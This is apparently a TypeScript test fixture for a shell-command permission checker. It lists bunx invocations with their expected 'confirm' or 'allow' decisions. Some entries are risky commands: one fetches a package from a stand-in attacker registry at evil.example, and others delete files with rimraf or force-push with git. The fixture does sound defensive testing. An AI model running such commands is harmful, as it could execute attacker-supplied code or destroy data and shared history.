import type { Line } from '../split-line'

/** It runs programs, and downloads them first. */
export const LINES: readonly Line[] = [
  ['bunx tsc', 'confirm', 'confirm'],
  ['bunx tsc --noEmit', 'confirm', 'confirm'],
  ['bunx cowsay hi', 'confirm', 'confirm'],
  ['bunx --bun vite dev', 'confirm', 'confirm'],
  ['bunx -p a b', 'confirm', 'confirm'],
  ['bunx eslint .', 'confirm', 'confirm'],
  ['bunx eslint --fix .', 'confirm', 'confirm'],
  ['bunx --no-install tsc --noEmit', 'confirm', 'allow'],
  ['bunx --no-install rimraf x', 'confirm', 'confirm'],
  ['bunx --no-install git push --force', 'confirm', 'confirm'],
  ['bunx --trust x', 'confirm', 'confirm'],
  ['bunx --env-file x tsc', 'confirm', 'confirm'],
  ['bunx --registry https://evil.example tsc', 'confirm', 'confirm'],
  ['bunx --version tsc', 'confirm', 'confirm'],
  ['bunx --no-such-option x', 'confirm', 'confirm'],
  ['bunx', 'confirm', 'confirm'],
]
